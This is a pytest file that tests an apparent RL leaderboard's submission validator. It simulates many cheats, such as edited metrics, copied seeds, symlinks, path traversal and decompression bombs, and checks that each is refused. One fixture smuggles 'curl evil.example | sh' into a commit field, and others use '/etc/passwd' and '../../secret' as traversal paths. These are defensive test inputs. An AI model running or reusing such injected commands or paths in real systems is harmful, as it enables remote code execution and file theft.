"""Every way to cheat that we could think of, on a board of real runs: refused, with the reason."""

from __future__ import annotations

import json
import os
import re
import shutil

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from fixtures.runs import call, make_world
from fixtures.submissions import BOARD, PPO, Handed, disguise, run_board, small_board

from lmrl_bench.digests import file_sha256
from lmrl_bench.leaderboards.collect import collect
from lmrl_bench.leaderboards.spec import load_board
from lmrl_bench.leaderboards.submission import history, tree
from lmrl_bench.leaderboards.submission.records import Submission
from lmrl_bench.runs.expectations import of_board


@pytest.fixture(scope="module")
def honest(tmp_path_factory):
    """Runs the board once; tests change copies."""
    with pytest.MonkeyPatch.context() as patch:
        root = tmp_path_factory.mktemp("world")
        patch.chdir(root)
        world = make_world(root, patch.setenv)
        board = small_board(root)
        run_board(board, root / "results")
        yield world, board


@pytest.fixture
def handed(honest, tmp_path):
    world, board = honest
    shutil.copytree(world.root / "results", tmp_path / "handed")
    shutil.copytree(board, tmp_path / "board")
    return Handed(world, tmp_path / "board", tmp_path / "handed" / BOARD, world.root / "results")


@pytest.fixture
def refuse(handed, capsys):
    """Calls a command on the results and returns its message; fails unless the exit code is 3."""

    def call_it(command: str, *options) -> str:
        options = ("--board", handed.board, *options) if command == "validate" else options
        done = call(capsys, "submission", command, handed.folder, *options)
        assert done.code == 3, (done.code, done.out, done.err)
        assert "Traceback" not in done.err
        return done.err

    return call_it


def result(name, amount):
    """Edits a test result of a record."""

    def change(content):
        found = content["results"]["test"]
        if name in found:
            found[name] += amount
        else:
            found["metrics"][name]["value"] += amount

    return change


def test_the_honest_board_is_accepted(handed, capsys):
    options = ("--board", handed.board, "--against", handed.before)
    done = call(capsys, "submission", "validate", handed.folder, *options)
    assert done.code == 0, done.err
    assert "6 records may stand on the board 'small'" in done.err
    assert call(capsys, "submission", "rescore", handed.folder).code == 0


# Records that say what was not so. (command that refuses, change, reason)
RECORDS = {
    "a metric edited": ("rescore", result("chrf", 5.0), r"test: chrf is [\d.]+, but"),
    "a mean edited": ("validate", result("reward", 1e-4), r"test: reward is [\d.e-]+, but"),
    "a length edited": ("validate", result("mean_length", 0.5), "test: mean_length is"),
    "a share edited": ("validate", result("truncated_share", 0.1), "test: truncated_share is"),
    "validation edited": (
        "validate",
        lambda c: c["results"]["validation"].update(reward=0.9),
        "results.validation: reward is 0.9, but curves.jsonl ends with",
    ),
    "NaN": ("validate", result("reward", float("nan")), r"record\.json: corrupt \("),
    "infinity": ("rescore", result("chrf", float("inf")), r"record\.json: corrupt \("),
    "another schema": ("validate", lambda c: c.update(schema=2), "record schema 2"),
    "an unknown field": ("validate", lambda c: c.update(bonus=1), "bonus: Extra inputs"),
    "a field left out": ("validate", lambda c: c.pop("budget"), "budget: Field required"),
    "settings edited": (
        "validate",
        lambda c: c["config"]["budget"].update(tokens=99),
        "budget.tokens is 99 in the record, 60 today",
    ),
    "algorithm edited": (
        "validate",
        lambda c: c["algorithm"].update(learning_rate=0.5),
        "algorithm is .* in the record",
    ),
    "a digest made up": (
        "validate",
        lambda c: c.update(config_digest="e" * 64),
        "config_digest is eeeeeeeeeeee… in the record",
    ),
    "an id made up": (
        "validate",
        lambda c: c.update(id="toy/ppo/model/s1-00000000"),
        "id is toy/ppo/model/s1-00000000, where",
    ),
    "metric of another version": (
        "rescore",
        lambda c: c["task"]["metric_signatures"].update(chrf="chrf|version:9"),
        r"chrf is of another version: chrf\|version:9",
    ),
    "metric of another version, on one record": (
        "validate",
        lambda c: c["task"]["metric_signatures"].update(chrf="chrf|version:9"),
        "mixed metric signatures cannot stand in one table",
    ),
    "reward of another version": (
        "rescore",
        lambda c: c["task"].update(reward_signature="1*[chrf|version:9]"),
        "reward is of another version",
    ),
    "another version of the task": (
        "validate",
        lambda c: c["task"].update(version=2),
        "task.version is 2 in the record, 1 today",
    ),
    "another state of the task": (
        "validate",
        lambda c: c["task"].update(digest="f" * 64),
        "task.digest is ffffffffffff… in the record",
    ),
    "another start": (
        "validate",
        lambda c: c["policy"].update(weights_sha256="3" * 64),
        "policy.weights_sha256 is 333333333333… in the record",
    ),
    "another task's record": (
        "validate",
        lambda c: c["task"].update(name="docs-en-de"),
        "holds the record of docs-en-de/ppo/1, which belongs elsewhere",
    ),
    "budget planned otherwise": (
        "validate",
        lambda c: c["budget"].update(planned_tokens=600),
        "budget.planned_tokens is 600, the configuration's 60",
    ),
    "fewer tokens claimed": (
        "validate",
        lambda c: c["budget"].update(tokens=10),
        "budget.tokens is 10, but curves.jsonl ends at",
    ),
    "an interrupted run": (
        "validate",
        lambda c: c.update(status="interrupted"),
        "was interrupted and can go on",
    ),
    "a failure without reason": (
        "validate",
        lambda c: c.update(status="failed", results={}),
        "the run failed, but the record names no error",
    ),
    "no answers": ("validate", lambda c: c.update(samples=None), "a completed run has samples"),
    "no test": (
        "validate",
        lambda c: c["results"].pop("test"),
        "a completed run has results.test, this record has none",
    ),
    "a path upwards": (
        "validate",
        lambda c: c["samples"].update(path="../0/samples.parquet"),
        "is a path; a record names what lies in its own folder",
    ),
    "an absolute path": (
        "validate",
        lambda c: c["curves"].update(path="/etc/passwd"),
        "is a path; a record names what lies in its own folder",
    ),
    "a model of somebody's folder": (
        "validate",
        lambda c: c["policy"].update(model="../../secret"),
        "is a path outside the working folder",
    ),
    "a metric that looks bad left out": (
        "validate",
        lambda c: c["results"]["test"]["metrics"].pop("bleu"),
        r"test: has the metrics \['chrf'\], the task \['bleu', 'chrf'\]",
    ),
    "a metric of one's own": (
        "rescore",
        lambda c: c["results"]["test"]["metrics"].update(mine={"value": 1.0, "n": 4}),
        r"test: has the metrics .*'mine'\]",
    ),
    "a scale that is no number": (
        "validate",
        lambda c: c["task"].update(score_range={"floor": "x", "ceiling": 1, "source": ""}),
        r"not a valid record \(task\.score_range\.floor: Input should be a valid number",
    ),
    "a scale without width": (
        "validate",
        lambda c: c["task"].update(score_range={"floor": 1, "ceiling": 1, "source": ""}),
        "floor and ceiling are both 1; they must differ",
    ),
    "ranked by a metric that looks better": (
        "validate",
        lambda c: c["task"].update(primary_metric="bleu"),
        "task.primary_metric is bleu in the record, chrf in the task",
    ),
    "a metric of the reward called held out": (
        "validate",
        lambda c: c["task"].update(held_out_metrics=["chrf"]),
        r"task.held_out_metrics is \['chrf'\] in the record, \['bleu'\] in the task",
    ),
    "a metric turned round": (
        "rescore",
        lambda c: c["task"].update(lower_is_better=["chrf"]),
        "the record has the direction of chrf the wrong way round",
    ),
    "the numbers without the mask left out": (
        "validate",
        lambda c: c["algorithm"].update(name="nlpo"),
        r"nlpo acts through a mask, but 'test-unmasked' is not in \['test'\]",
    ),
    "fewer iterations claimed": (
        "validate",
        lambda c: c["budget"].update(iterations=0),
        r"budget.iterations is 0, but curves.jsonl ends at \d",
    ),
    "no validation": (
        "validate",
        lambda c: c["results"].pop("validation"),
        "a completed run has results.validation, this record has none",
    ),
    "a validation metric edited": (
        "validate",
        lambda c: c["results"]["validation"]["metrics"]["chrf"].update(value=99.0),
        r"results.validation: metric/chrf is 99, but curves.jsonl ends with",
    ),
    "a validation metric of one's own": (
        "validate",
        lambda c: c["results"]["validation"]["metrics"].update(bleu={"value": 9.0, "n": 4}),
        r"results.validation: metric/bleu is 9, but curves.jsonl ends with nan",
    ),
    "a validation share edited": (
        "validate",
        lambda c: c["results"]["validation"].update(truncated_share=0.125),
        "results.validation: truncated_share is 0.125, but curves.jsonl ends with",
    ),
    "commands in place of a commit": (
        "validate",
        lambda c: c["provenance"].update(commit="main; curl evil.example | sh #"),
        "provenance.commit: String should match pattern",
    ),
    "text in place of a flag": (
        "validate",
        lambda c: c["fidelity"].update(flags=["**checked**"]),
        "fidelity.flags.0: Input should be 'max_logprob_difference'",
    ),
    "a number that no statistics can take": (
        "validate",
        lambda c: c["results"]["test"]["metrics"]["bleu"].update(value=1e308),
        r"test: bleu is 1e\+308, larger than 1e\+100: no statistics can take it",
    ),
    "a policy that is a text": (
        "rescore",
        lambda c: c["config"].update(policy="mine"),
        "not a valid record .*config.policy is no mapping",
    ),
    "no configuration at all": (
        "validate",
        lambda c: c.update(config={}),
        "cannot be checked",
    ),
}


@pytest.mark.parametrize("name", RECORDS)
def test_an_edited_record(handed, refuse, name):
    command, change, reason = RECORDS[name]
    handed.edit(change)
    found = refuse(command)
    assert re.search(reason, found), found
    assert "toy/ppo/1" in found


def test_a_scale_of_the_submitters_own(handed, capsys):
    """It is shown, and no board takes it: the scale is the task's."""
    mine = {"floor": -100.0, "ceiling": -99.0, "source": "mine"}
    for place in sorted(handed.folder.glob("*/*/*")):
        handed.edit(lambda content: content["task"].update(score_range=mine), place)
    done = call(capsys, "submission", "validate", handed.folder, "--board", handed.board)
    assert done.code == 0, done.err
    assert "ppo/1: has another score_range than the task; the task's counts" in done.err
    spec = load_board(handed.board)
    table = collect(spec, handed.folder.parent, of_board(spec))
    assert table.tasks[0].info.score_range is None


def test_an_edited_record_with_digests_that_fit(handed, refuse):
    """Another learning rate, and everything that is derived from it recomputed."""

    def change(content):
        content["config"]["algorithm"]["learning_rate"] = 0.5
        disguise(content, row="ppo", seed=1)

    handed.edit(change)
    found = refuse("validate")
    assert "algorithm.learning_rate is 0.5 in the record, 0.01 today" in found
    assert "config.yaml says something else than the record's config" in found


def first(**changes):
    def change(rows):
        rows[0].update(changes)
        return rows

    return change


ANSWERS = {
    "reversed": ("validate", lambda rows: rows[::-1], "row 0 is of the sample .* belongs"),
    "one left out": ("validate", lambda rows: rows[:-1], "3 answers, 4 in the record"),
    "one twice": ("validate", lambda rows: [rows[0], *rows[:-1]], "is answered twice"),
    "one more decoding": (
        "validate",
        lambda rows: rows + [row | {"decoding": "test-greedy"} for row in rows],
        "samples.parquet holds .*test-greedy.*, the record",
    ),
    "a reward that is NaN": ("validate", first(reward=float("nan")), "is not finite"),
    "a better answer": ("rescore", first(output="a a a a"), "of the sample test-0 is"),
    "a better reward": ("validate", first(reward=0.99), "test: reward is"),
    "a better score": ("rescore", first(**{"metric/chrf": 99.0}), "chrf of the sample test-0 is 99"),
    "a better reward, the mean kept": (
        "rescore",
        lambda rows: [
            row | {"reward": row["reward"] + 0.1 * sign, "reward/chrf": row["reward/chrf"] + 0.1 * sign}
            for row, sign in zip(rows, (1, -1, 0, 0), strict=True)
        ],
        "reward of the sample test-0 is",
    ),
    "an empty field": ("validate", first(terminated=None), "has an empty field"),
    "no decoding": ("rescore", first(decoding=None), "has an empty field in decoding"),
}  # fmt: skip


@pytest.mark.parametrize("name", ANSWERS)
def test_edited_answers(handed, refuse, name):
    command, change, reason = ANSWERS[name]
    handed.edit_samples(change)
    found = refuse(command)
    assert re.search(reason, found), found
    assert "toy/ppo/1" in found


def test_answers_of_another_run(handed, refuse):
    """Swapped without and with the digest in the record."""
    better = handed.run(f"{PPO}/2") / "samples.parquet"
    shutil.copy(better, handed.run() / "samples.parquet")
    assert "samples.parquet: changed since the record was written" in refuse("validate")
    assert "changed since the record was written" in refuse("rescore")
    handed.edit(lambda content: content["samples"].update(sha256=file_sha256(better)))
    assert re.search(r"test: (reward|mean_length) is", refuse("validate"))


def test_prompts_that_are_shown_but_were_not_asked(handed, refuse):
    folder = handed.run()
    table = pq.read_table(folder / "samples.parquet")
    prompts = ["an easier prompt", *table["prompt"].to_pylist()[1:]]
    table = table.set_column(table.column_names.index("prompt"), "prompt", pa.array(prompts))
    pq.write_table(table, folder / "samples.parquet")
    digest = file_sha256(folder / "samples.parquet")
    handed.edit(lambda content: content["samples"].update(sha256=digest))
    assert "is shown with another prompt" in refuse("validate")


def test_answers_of_another_type(handed, refuse):
    folder = handed.run()
    table = pq.read_table(folder / "samples.parquet")
    position = table.column_names.index("reward")
    texts = pa.array(["much"] * table.num_rows)
    pq.write_table(table.set_column(position, "reward", texts), folder / "samples.parquet")
    digest = file_sha256(folder / "samples.parquet")
    handed.edit(lambda content: content["samples"].update(sha256=digest))
    for command in ("validate", "rescore"):
        assert "columns of another type: reward" in refuse(command)


def test_answers_that_are_no_text(handed, refuse):
    folder = handed.run()
    table = pq.read_table(folder / "samples.parquet")
    raw = [b"\xff\xfe", *(text.encode() for text in table["output"].to_pylist()[1:])]
    column = pa.array(raw, pa.binary()).view(pa.string())
    position = table.column_names.index("output")
    pq.write_table(table.set_column(position, "output", column), folder / "samples.parquet")
    digest = file_sha256(folder / "samples.parquet")
    handed.edit(lambda content: content["samples"].update(sha256=digest))
    for command in ("validate", "rescore"):
        assert re.search("samples.parquet: cannot be read .*[Ii]nvalid UTF", refuse(command))


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ({"metric/chrf": []}, "iteration 0: metric/chrf: Input should be a valid number"),
        ({"reward": 1e308}, r"curves.jsonl: reward is 1e\+308, larger than 1e\+100"),
    ],
)
def test_points_of_a_curve_that_cannot_be_drawn(handed, refuse, capsys, value, reason):
    """Also the first one, of which no result is claimed; and by somebody who builds the board at once."""
    handed.edit_curves(lambda lines: lines[0].update(value))
    assert re.search(reason, refuse("validate"))
    places = ("--results", handed.folder.parent, "--out", handed.folder.parent / "out")
    done = call(capsys, "board", "build", handed.board, *places)
    assert (done.code, bool(re.search(reason, done.err))) == (2, True), done.err


def test_more_training_than_the_budget(handed, refuse):
    def change(lines):
        last = next(line for line in reversed(lines) if line["kind"] == "train")
        more = last | {"iteration": last["iteration"] + 1, "tokens": last["tokens"] + 30}
        lines.insert(len(lines) - 1, more)

    handed.edit_curves(change)
    found = refuse("validate")
    assert re.search(r"training went on after the budget: \d+ of 60 tokens, then more", found)
    assert "budget.tokens is" in found


def test_less_training_than_the_budget(handed, refuse):
    """The curves end after the first iteration, and the record agrees with them."""
    short = {}

    def change(lines):
        train = [line for line in lines if line["kind"] == "train"]
        last = next(line for line in reversed(lines) if line["kind"] == "validation")
        last |= {"iteration": train[0]["iteration"], "tokens": train[0]["tokens"]}
        lines[:] = [train[0], last]
        short.update(train[0], iterations=train[0]["iteration"])

    handed.edit_curves(change)
    names = ("tokens", "episodes", "iterations", "optimiser_steps")
    handed.edit(lambda content: content["budget"].update({name: short[name] for name in names}))
    assert re.search(r"training ended before the budget: \d+ of 60 tokens", refuse("validate"))


def test_the_best_evaluation_in_place_of_the_last(handed, refuse):
    handed.edit_curves(lambda lines: lines[-1].update(iteration=1, tokens=1))
    found = refuse("validate")
    assert re.search(r"last evaluation is at iteration 1 \(1 tokens\), training ended at", found)


def test_curves_that_are_not_json_or_no_numbers(handed, refuse):
    handed.edit_curves(lambda lines: lines[0].update(tokens="many", kind="train"))
    assert "cannot be checked (ValueError" in refuse("validate")
    (handed.run() / "curves.jsonl").write_text("[" * 100_000)
    digest = file_sha256(handed.run() / "curves.jsonl")
    handed.edit(lambda content: content["curves"].update(sha256=digest))
    refuse("validate")


@pytest.mark.parametrize("name", ["tokens", "progress"])
def test_curves_with_a_number_that_overflows(handed, refuse, name):
    path = handed.run() / "curves.jsonl"
    text = re.sub(rf'"{name}":[\d.]+', f'"{name}":1e999', path.read_text())
    assert "1e999" in text
    path.write_text(text)
    named = {"sha256": file_sha256(path)}
    handed.edit(lambda content: content["curves"].update(named))
    assert "curves.jsonl" in refuse("validate")


def test_json_without_end(handed, refuse):
    (handed.run() / "record.json").write_text("[" * 100_000)
    assert "record.json: corrupt" in refuse("validate")


def test_a_missing_seed_and_a_missing_record(handed, refuse):
    shutil.rmtree(handed.run())
    found = refuse("validate")
    assert "ppo/1: missing: a board takes all its seeds or none (seeds 0, 1, 2)" in found
    handed.copy(f"{PPO}/0", f"{PPO}/1")
    (handed.run() / "record.json").unlink()
    assert "record.json: there is no record" in refuse("validate")


def test_more_seeds_rows_and_tasks_than_the_board_asks_for(handed, refuse):
    """The best of many seeds; a row that nobody entered; a task from elsewhere."""
    handed.copy(f"{PPO}/0", f"{PPO}/7")
    handed.copy(PPO, "toy/mine")
    handed.copy(f"{PPO}/0", "other/ppo/0")
    handed.copy(f"{PPO}/0", f"{PPO}/00")
    found = refuse("validate")
    assert "toy/ppo/7: '7' is no seed of the board (seeds 0, 1, 2)" in found
    assert "toy/ppo/00: '00' is no seed" in found
    assert (
        "the board has no row 'mine'; add it to the entries of the board's leaderboard.yaml"
        in found
    )
    assert "other/ppo/0: the board has no task 'other'" in found


def test_a_record_copied_to_another_seed(handed, refuse):
    handed.copy(f"{PPO}/0", f"{PPO}/1")
    assert "holds the record of toy/ppo/0, which belongs elsewhere" in refuse("validate")
    handed.edit(lambda content: disguise(content, row="ppo", seed=1))
    path = handed.run() / "config.yaml"
    path.write_text(path.read_text().replace("seed: 0", "seed: 1"))
    assert "ppo/1: its curves are those of" in refuse("validate")


def test_a_copy_with_other_curves(handed, refuse):
    """A space, an iteration count or a number does not make another run of it."""
    handed.copy(f"{PPO}/0", f"{PPO}/1")
    handed.edit(lambda content: disguise(content, row="ppo", seed=1))
    path = handed.run() / "curves.jsonl"
    path.write_text(path.read_text().replace("{", "{ ", 1))
    named = {"path": path.name, "sha256": file_sha256(path)}
    handed.edit(lambda content: content["curves"].update(named))
    handed.edit(lambda content: content["budget"].update(iterations=0))
    found = refuse("validate")
    assert "ppo/1: its curves are those of" in found
    handed.edit_curves(lambda lines: lines[1].update(progress=0.123))
    found = refuse("validate")
    assert "ppo/1: its curves are" not in found
    assert "ppo/1: its answers are those of" in found


def test_a_record_copied_to_another_row(handed, refuse):
    small_board(handed.board.parent, "mine")
    shutil.rmtree(handed.board)
    shutil.copytree(handed.board.parent / "boards" / BOARD, handed.board)
    handed.copy(PPO, "toy/mine")
    assert "toy/mine/0: holds the record of toy/ppo/0, which belongs elsewhere" in refuse(
        "validate"
    )

    def change(content):
        content["config"]["algorithm"]["learning_rate"] = 0.02
        disguise(content, row="mine", seed=content["seed"])

    for seed in range(3):
        handed.edit(change, f"toy/mine/{seed}")
        content = json.loads((handed.folder / f"toy/mine/{seed}/record.json").read_text())
        resolved = content["config"] | {"label": "mine", "seed": seed}
        (handed.folder / f"toy/mine/{seed}/config.yaml").write_text(yaml.safe_dump(resolved))
    found = refuse("validate")
    assert len(re.findall("toy/mine/.: its curves are those of", found)) == 3


LINKS = ["record.json", "samples.parquet", "curves.jsonl", "config.yaml"]


@pytest.mark.parametrize("name", [*LINKS, "."])
def test_links(handed, refuse, tmp_path, name):
    path = handed.run() / name if name != "." else handed.run()
    path.rename(tmp_path / "elsewhere")
    path.symlink_to(tmp_path / "elsewhere")
    assert f"{path}: is a link; put the run's own" in refuse("validate")
    if name in ("curves.jsonl", "config.yaml"):
        assert f"{path}: is a link; put the run's own" in refuse("rescore")


def test_a_run_trained_again_through_a_link(handed, capsys, tmp_path):
    """The check would be written into the row that the link points at."""
    for place in (handed.run(), handed.run().parent):
        place.rename(tmp_path / "elsewhere")
        place.symlink_to(tmp_path / "elsewhere")
        options = ("--write-verification", "--by", "me")
        done = call(capsys, "submission", "rerun", handed.run(), *options)
        assert (done.code, "a folder on the way is a link" in done.err) == (2, True)
        assert not list(tmp_path.rglob("verification.json"))
        place.unlink()
        (tmp_path / "elsewhere").rename(place)


def test_seeds_beside_the_row_do_not_widen_its_interval(handed, capsys):
    """Another setting's run, or a copy under another number, is no further seed."""
    handed.edit(lambda c: c["results"]["test"]["metrics"]["chrf"].update(value=90.0))
    handed.copy("toy/start/0", f"{PPO}/7")
    done = call(capsys, "submission", "rerun", handed.run())
    assert (done.code, "ppo/7: holds toy/start/" in done.err) == (2, True), done.err
    handed.copy(f"{PPO}/0", f"{PPO}/7")
    done = call(capsys, "submission", "rerun", handed.run())
    assert (done.code, "ppo/7: holds toy/ppo/model/s0-" in done.err) == (2, True)
    assert "is no seed of the row there; remove it" in done.err


def test_older_rows_removed_through_a_link(handed, capsys, tmp_path):
    """Under the link's own name the folder would stand for further rows only."""
    shutil.rmtree(handed.folder / "toy" / "ppo")
    other = handed.folder.rename(tmp_path / "rows")
    handed.folder.symlink_to(other)
    options = ("--board", handed.board, "--against", handed.before)
    done = call(capsys, "submission", "validate", handed.folder, *options)
    assert (done.code, f"{handed.folder}: is a link" in done.err) == (2, True)
    assert Submission(load_board(handed.board), handed.folder).whole


def test_what_a_run_leaves_behind_is_not_followed(handed, capsys, tmp_path):
    """A folder of further rows is laid over the earlier ones, without what git ignores."""
    rows = handed.folder.rename(tmp_path / "rows")
    inside = rows / PPO / "1" / "policy"
    inside.mkdir()
    (inside / "secret").symlink_to(tmp_path / "nowhere")
    options = ("--board", handed.board, "--against", handed.before)
    done = call(capsys, "submission", "validate", rows, *options)
    assert done.code == 0, done.err


def test_what_is_no_file_of_a_run(handed, refuse):
    (handed.run() / "notes.txt").write_text("look")
    (handed.run("toy/ppo") / "setup.py").write_text("import os")
    os.mkfifo(handed.run("toy/start/0") / "pipe")
    (handed.run() / "checkpoint").mkdir()  # left by a run, and ignored by git
    found = refuse("validate")
    assert "notes.txt: does not belong here (allowed: record.json" in found
    assert "setup.py: does not belong here" in found
    assert "pipe: does not belong here" in found
    assert "checkpoint" not in found


@pytest.mark.parametrize("name", LINKS)
def test_huge_files_are_not_opened(handed, refuse, capsys, name, monkeypatch):
    with (handed.run() / name).open("ab") as stream:
        stream.truncate(tree.LIMITS[name] + 1)
    monkeypatch.setattr("lmrl_bench.leaderboards.submission.records.read_record", _only_others)
    too_large = rf"toy/ppo/1/{name}: [\d,]+ bytes, more than the"
    assert re.search(too_large, refuse("validate"))
    monkeypatch.setattr("lmrl_bench.runs.rescore.read_record", _only_others)
    assert re.search(too_large, refuse("rescore"))
    monkeypatch.setattr("lmrl_bench.runs.rerun.read_record", _only_others)
    done = call(capsys, "submission", "rerun", handed.run())
    assert (done.code, bool(re.search(too_large, done.err))) == (2, True)


def test_huge_files_and_links_are_not_read_for_their_digest(handed, refuse, monkeypatch, tmp_path):
    """Not even to see whether an older record, or a file of checks, has changed."""
    other = handed.run("toy/ppo/2").rename(tmp_path / "elsewhere")
    handed.run("toy/ppo/2").symlink_to(other)
    for path in (handed.run() / "curves.jsonl", handed.folder / PPO / "verification.json"):
        with path.open("ab") as stream:
            stream.truncate(tree.LIMITS[path.name] + 1)
    read = []
    monkeypatch.setattr(history, "file_sha256", lambda path: read.append(path) or "0")
    refuse("validate", "--against", handed.before)
    mine = {path.parent for path in read if path.is_relative_to(handed.folder / PPO)}
    assert mine == {handed.run(f"{PPO}/0")}


def _only_others(folder):
    from lmrl_bench.records.store import read_record

    assert folder.name != "1" or folder.parent.name != "ppo", "opened a file that is too large"
    return read_record(folder)


def exchange_answers(handed, table):
    """Writes a samples.parquet that the record of ppo/1 names."""
    path = handed.run() / "samples.parquet"
    pq.write_table(table, path, compression="zstd")
    assert path.stat().st_size < tree.LIMITS[path.name]
    named = {"sha256": file_sha256(path), "rows": table.num_rows}
    handed.edit(lambda content: content["samples"].update(named))


def test_many_rows_in_a_small_file(handed, refuse):
    """A dictionary and run lengths make a million equal rows a file of some kilobytes."""
    row = pq.read_table(handed.run() / "samples.parquet").slice(0, 1)
    exchange_answers(handed, row.take(pa.array([0] * 1_000_000)))
    assert "samples.parquet holds 1,000,000 rows, more than 3 times 4" in refuse("validate")


@pytest.mark.parametrize("name", ["output", "references"])
def test_long_texts_in_a_small_file(handed, refuse, name, monkeypatch):
    """One text of 5 MB that many values of the dictionary's column name."""
    table = pq.read_table(handed.run() / "samples.parquet")
    text = "x" * 5_000_000
    monkeypatch.setattr(tree, "UNPACKED_LIMIT", 15_000_000)  # the stored 5 MB are below it
    values = [text] * table.num_rows if name == "output" else [[text] * 9] + [[]] * 3
    column = pa.array(values, type=table.schema.field(name).type)
    position = table.column_names.index(name)
    exchange_answers(handed, table.set_column(position, name, column))
    for command in ("validate", "rescore"):
        assert "samples.parquet unpacks to more than 15,000,000 bytes" in refuse(command)


def test_long_lists_in_a_small_file(handed, refuse, monkeypatch):
    table = pq.read_table(handed.run() / "samples.parquet")
    values = [[7] * 2_000_000] + [[]] * 3
    position = table.column_names.index("output_ids")
    column = pa.array(values, type=pa.list_(pa.int32()))
    monkeypatch.setattr(tree, "UNPACKED_LIMIT", 5_000_000)
    exchange_answers(handed, table.set_column(position, "output_ids", column))
    for command in ("validate", "rescore"):
        assert "samples.parquet unpacks to more than 5,000,000 bytes" in refuse(command)


def test_older_records_stay_as_they_are(handed, refuse):
    """A changed one, also where nothing but its provenance changed; a removed one."""
    handed.edit(lambda content: content["provenance"].update(dirty=False, commit="a" * 40))
    found = refuse("validate", "--against", handed.before)
    assert "ppo/1: record.json changed: older records stay as they are" in found
    shutil.rmtree(handed.folder / "toy" / "start")
    found = refuse("validate", "--against", handed.before)
    assert "toy/start/2: removed: older records stay as they are, failed ones too" in found


def test_a_failed_record_that_is_replaced_or_removed(handed, refuse, tmp_path):
    """The old board has a failed seed; the new one has a better one instead, or no such row."""
    before = tmp_path / "before"
    shutil.copytree(handed.folder, before / BOARD)
    path = before / BOARD / PPO / "1" / "record.json"
    failed = json.loads(path.read_text())
    failed.update(status="failed", results={}, samples=None,
                  error={"type": "ValueError", "message": "a loss is not finite"})  # fmt: skip
    path.write_text(json.dumps(failed))
    found = refuse("validate", "--against", before)
    assert "ppo/1: record.json changed: older records stay as they are, failed ones too" in found
    shutil.rmtree(handed.folder / PPO)
    spec = yaml.safe_load((handed.board / "leaderboard.yaml").read_text())
    spec["entries"].pop()
    (handed.board / "leaderboard.yaml").write_text(yaml.safe_dump(spec))
    assert "ppo/1: removed" in refuse("validate", "--against", before)


def test_a_board_that_drops_the_seed_it_does_not_like(handed, refuse):
    spec = yaml.safe_load((handed.board / "leaderboard.yaml").read_text())
    (handed.board / "leaderboard.yaml").write_text(yaml.safe_dump(spec | {"seeds": [0, 2]}))
    assert "toy/ppo/1: '1' is no seed of the board (seeds 0, 2)" in refuse("validate")
    for label in ("ppo", "start"):
        shutil.rmtree(handed.folder / "toy" / label / "1")
    assert "toy/ppo/1: removed" in refuse("validate", "--against", handed.before)


def test_all_problems_are_shown_together(handed, refuse):
    handed.edit(result("reward", 0.5))
    shutil.rmtree(handed.run(f"{PPO}/2"))
    (handed.run("toy/start/0") / "notes.txt").write_text("look")
    found = refuse("validate")
    for reason in ("test: reward is", "ppo/2: missing", "notes.txt: does not belong here"):
        assert reason in found
    assert found.rstrip().endswith("the submission is refused")


def test_a_check_that_the_submitter_wrote_himself(handed, capsys, refuse):
    """It is shown to the reviewer; a file that is no check is refused."""
    done = call(
        capsys, "submission", "rescore", handed.folder, "--write-verification", "--by", "me"
    )
    assert done.code == 0, done.err
    options = ("--board", handed.board, "--against", handed.before)
    done = call(capsys, "submission", "validate", handed.folder, *options)
    assert done.code == 0, done.err
    assert "it claims level 1 by me: was it they who wrote it?" in done.err
    claim = json.loads((handed.folder / PPO / "verification.json").read_text())["checks"][0]
    again = {"seed": 1, "how": "interval", "value": 1e9, "digest": "d" * 64}
    text = json.dumps({"checks": [claim | {"level": 3, "retrained": again}]})
    (handed.folder / PPO / "verification.json").write_text(text)
    assert "claims that seed 1, trained again, lies inside" in refuse("validate")
    (handed.folder / PPO / "verification.json").write_text('{"checks": [{"level": 5}]}')
    assert "verification.json: not a file of checks" in refuse("validate")
